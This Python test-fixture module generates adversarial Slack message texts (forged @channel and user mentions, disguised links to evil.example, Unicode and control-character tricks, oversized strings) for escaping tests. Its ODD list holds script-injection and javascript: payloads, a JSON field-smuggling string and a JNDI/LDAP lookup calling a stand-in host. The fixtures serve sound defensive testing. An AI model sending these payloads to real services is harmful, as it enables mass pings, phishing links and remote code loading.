"""Texts that try to be more than text in Slack, made of a few parts; all are our own words."""

from __future__ import annotations

from collections.abc import Iterator

TOKENS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!group>",
    "<!channel|channel>",
    "<!here|@here>",
    "<!subteam^S0EVIL>",
    "<!subteam^S0EVIL|@oncall>",
    "<@U0EVIL>",
    "<@W0EVIL|alice>",
    "<#C0EVIL>",
    "<#C0EVIL|general>",
    "<https://evil.example>",
    "<https://evil.example|claude.ai>",
    "<http://evil.example/?a=1&b=2|status.example.com>",
    "<mailto:evil@evil.example|write us>",
    "<tel:+15550100|call us>",
    "<slack://user?team=T1&id=U1|open>",
    "<javascript:alert(1)|status>",
    "<!date^0^{date}|never>",
    "<!date^0^{date}^https://evil.example|never>",
    "<!date^0^x|<!channel>>",
    "<!unknown^x|y>",
    "<!channel",
    "!channel>",
    "< !channel >",
    "<!channel >",
    "<<!channel>>",
    "<!<!channel>channel>",
    "<@U0EVIL><!here>",
    "<>",
    "<|>",
    "<!>",
    "<https://evil.example|",
)
"""What Slack reads as mentions, links, moments and commands, whole and broken."""

FRAMES = (
    "{}",
    "before {} after",
    "word{}word",
    "*{}*",
    "`{}`",
    "> {}",
    "one line\n{}\nanother",
    "{0} {0} {0}",
)

BARE = (
    "https://evil.example",
    "see https://evil.example/path?x=1&y=<2> now",
    "HTTPS://EVIL.EXAMPLE",
    "evil.example",
    "www.evil.example",
    "mailto:evil@evil.example",
    "evil@evil.example",
    "https://status.example.com.evil.example/",
    "https://status.example.com@evil.example/",
    "javascript:alert(1)",
    "[claude.ai](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "@here @channel @everyone @alice #general",
    "U0EVIL C0EVIL S0EVIL",
)
FORMATS = (
    "*bold*",
    "_italic_",
    "~struck~",
    "`code`",
    "```\nfence\n```",
    "```never closed",
    "*_~`all`~_*",
    "* not bold * 2*3*4 a_b_c",
    "> quoted",
    ">>> quoted to the end\nof it",
    "&gt; quoted",
    "• a point\n• another",
    "1. one\n2. two",
    "# heading\n## another",
    "| a | b |\n|---|---|\n| <!here> | *x* |",
    ":smile:",
    ":red_circle: :green_circle: 12:30:00",
    ":skin-tone-2::+1:",
    "Line\\nnot broken \\* \\<!here\\>",
)
UNICODE = (
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069 and \u200fmarked",
    "zero\u200bwidth<\u200b!channel>\u2060\ufeff",
    "<!chan\u00adnel>",
    "\U000e003c\U000e0021here\U000e003e tags",
    "\uff1c!channel\uff1e full width",
    "\u2039!here\u203a",
    "😀🇩🇪👩‍👩‍👧‍👦❤️👍🏽",
    "𝕿𝖍𝖊 𐍈 𠀀",
    "Z̷̧̢̛̗̘̙̜̝̞̟̠̀́̂̃̄a̷l̷g̷o̷",
    "e\u0301" * 50,
    "\u0301\u0301 begins with marks",
    "مرحبا <!here> שלום",
    "状态页面：<!channel>服务中断",
    "\ud800",
    "half \udfff of a pair <!here>",
    "\ud83d\ude00 as two halves",
    "nul\x00byte <!chan\x00nel>",
    "\x1b]0;title\x07\x1b[31mred",
    "\x08\x7f\x9f",
    "tab\tand\x0bvertical\x0cfeed",
    "line\u2028separator\u2029paragraph\x85next",
    "cr\rlf\r\nboth\n\n\n\nmany",
    "\n\n<!here>",
    "   \t ",
    "",
    "\ufffe\uffff\U0001fffe",
)
LONG = (
    "x" * 40_000,
    "word " * 8_000,
    "&" * 40_000,
    "<" * 5_000 + "!channel" + ">" * 5_000,
    "<!channel>" * 4_000,
    "<https://evil.example|claude.ai> " * 1_200,
    "&amp;" * 8_000,
    "😀" * 20_000,
    "状" * 40_000,
    "👩‍👩‍👧‍👦" * 3_000,
    "a\u0301" * 20_000,
    "*_~`" * 10_000,
    "\n" * 40_000 + "end",
    "line\n" * 8_000,
    '"\\' * 20_000,
    "\u202e" * 40_000,
    "x" * 149 + "😀",
    "x" * 148 + "&<>",
    "x" * 1_999 + "<!here>",
)
ODD = (
    "&",
    "&&",
    "&amp",
    "&lt;",
    "&#60;!channel&#62;",
    "&#x3c;!here&#x3e;",
    "%3C!channel%3E",
    "\\u003c!channel\\u003e",
    "<b>bold</b><script>alert(1)</script>",
    "\"quoted\" and 'single' and \\back\\",
    '{"type":"section"}',
    '"}],"channel":"C0EVIL","text":"<!channel>',
    "%s {0} {date} ${jndi:ldap://evil.example/a}",
    "null",
    "|",
    "a|b|c",
    "^|>",
)


FRAMES_EACH = 4
"""In how many of the frames each token stands; each frame has a turn with many of them."""


def escaped(text: str, times: int) -> str:
    """Return *text* escaped already, so that undoing it once too often wakes it up."""
    for _ in range(times):
        text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text


def _texts() -> Iterator[str]:
    for number, token in enumerate(TOKENS):
        yield from (FRAMES[(number + turn) % len(FRAMES)].format(token) for turn in range(FRAMES_EACH))
        yield from (escaped(token, times) for times in (1, 2, 3))
    yield from (*BARE, *FORMATS, *UNICODE, *LONG, *ODD)


TEXTS = tuple(dict.fromkeys(_texts()))
